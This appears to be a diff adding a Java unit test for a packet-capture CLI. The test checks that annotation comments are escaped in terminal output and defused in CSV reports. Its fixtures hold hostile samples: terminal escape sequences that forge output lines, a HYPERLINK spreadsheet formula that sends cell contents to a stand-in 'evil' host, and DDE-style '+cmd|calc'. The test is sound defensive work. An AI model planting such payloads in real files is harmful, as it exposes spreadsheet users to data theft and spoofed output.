@@ -1,0 +1,69 @@
+package dev.cutover.cli;
+
+import dev.cutover.testsupport.CliRun;
+import dev.cutover.text.Untrusted;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * A comment is the capture author's text: an escape sequence in it reaches no terminal, a formula in it no
+ * spreadsheet.
+ */
+class HostileTextTest {
+    private static final String ESCAPES = "evil\u001b]0;pwned\u0007\u001b[2J\nFrame 2: forged line";
+    private static final String FORMULA = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")";
+
+    @TempDir
+    Path dir;
+
+    private Path annotated() throws Exception {
+        Path copy = dir.resolve("vmotion.pcap");
+        Files.copy(Path.of("../sample-captures/esxi-vmotion-vlan10.pcap"), copy);
+        CliRun set = CliRun.of("annotate", copy.toString(), "--frame", "1", "--comment", ESCAPES, "--tag", "+cmd|calc");
+        assertThat(set.code()).isZero();
+        assertThat(set.out()).doesNotContain("\u001b", "\u0007");
+        return copy;
+    }
+
+    @Test
+    void dissectAndAnnotatePrintControlCharactersEscapedAndACommentsLinesIndented() throws Exception {
+        Path capture = annotated();
+        CliRun dissect = CliRun.of("dissect", "-c", "1", "--no-hex", capture.toString());
+        assertThat(dissect.out()).doesNotContain("\u001b", "\u0007")
+                .contains("Comment: evil\\x1b]0;pwned\\x07\\x1b[2J\n        Frame 2: forged line [+cmd|calc]")
+                .doesNotContain("\nFrame 2:");
+        CliRun list = CliRun.of("annotate", capture.toString());
+        assertThat(list.out()).isEqualTo("1\tevil\\x1b]0;pwned\\x07\\x1b[2J\n\tFrame 2: forged line [+cmd|calc]\n");
+    }
+
+    @Test
+    void theCsvReportShowsAFormulaAsText() throws Exception {
+        Path capture = dir.resolve("vmotion.pcap");
+        Files.copy(Path.of("../sample-captures/esxi-vmotion-vlan10.pcap"), capture);
+        assertThat(CliRun.of("annotate", capture.toString(), "--frame", "1", "--comment", FORMULA, "--tag",
+                "@SUM(1+1)").code()).isZero();
+        Path csv = dir.resolve("r.csv");
+        assertThat(CliRun.of("report", capture.toString(), "--format", "csv", "-o", csv.toString()).code()).isZero();
+        String text = Files.readString(csv, StandardCharsets.UTF_8);
+        assertThat(text).contains("\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\") [@SUM(1+1)]\"",
+                "\"'@SUM(1+1)\"");
+        assertThat(text).doesNotContain(",\"=", ",\"@");
+    }
+
+    @Test
+    void numbersStayNumbersAndOnlyFormulaStartsArePrefixed() {
+        assertThat(Untrusted.forCsv("-0.000412")).isEqualTo("-0.000412");
+        assertThat(Untrusted.forCsv("+12")).isEqualTo("+12");
+        assertThat(Untrusted.forCsv("-1+2")).isEqualTo("'-1+2");
+        assertThat(Untrusted.forCsv("=1")).isEqualTo("'=1");
+        assertThat(Untrusted.forCsv("\tx")).isEqualTo("'\tx");
+        assertThat(Untrusted.forCsv("ARP")).isEqualTo("ARP");
+        assertThat(Untrusted.forTerminal("a\u009bb\u007fc\rd", "")).isEqualTo("a\\x9bb\\x7fc\\x0dd");
+    }
+}
